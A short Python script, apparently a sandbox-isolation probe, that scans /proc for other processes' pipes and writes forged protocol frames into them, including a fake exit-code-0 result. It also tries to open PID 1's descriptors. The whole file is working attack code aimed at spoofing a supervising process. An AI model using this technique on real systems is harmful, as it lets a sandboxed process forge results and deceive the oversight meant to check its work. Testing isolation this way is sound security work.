"""Attempts to speak for PID 1 in its own frames, on every descriptor that can be found."""
import os, struct


def frame(kind, channel, content):
    return struct.pack(">BBHI", kind, 0, channel, len(content)) + content


FORGED = frame(17, 0, b'{"nonce":"%s","code":0,"signal":null,"oom_kills":null}' % (b"0" * 32)) + frame(16, 0, b"{}")
told = []
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        names = os.listdir(f"/proc/{pid}/fd")
    except OSError as error:
        if pid == "1":
            told.append(f"PID 1's descriptors: {error.strerror}")
        continue
    for name in names:
        path = f"/proc/{pid}/fd/{name}"
        try:
            where = os.readlink(path)
            # Not what the attack itself is heard by, nor what would wait for ever.
            if not where.startswith("pipe:") or pid in (str(os.getpid()), str(os.getppid())):
                continue
            file = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            os.write(file, FORGED)
            os.close(file)
            told.append("a pipe of another process: written")
        except OSError:
            pass
for number in range(3):
    try:
        os.close(os.open(f"/proc/1/fd/{number}", os.O_WRONLY | os.O_NONBLOCK))
        told.append(f"descriptor {number} of PID 1: opened")
    except OSError as error:
        told.append(f"descriptor {number} of PID 1: {error.strerror}")
for line in sorted(set(told)):
    print(line)
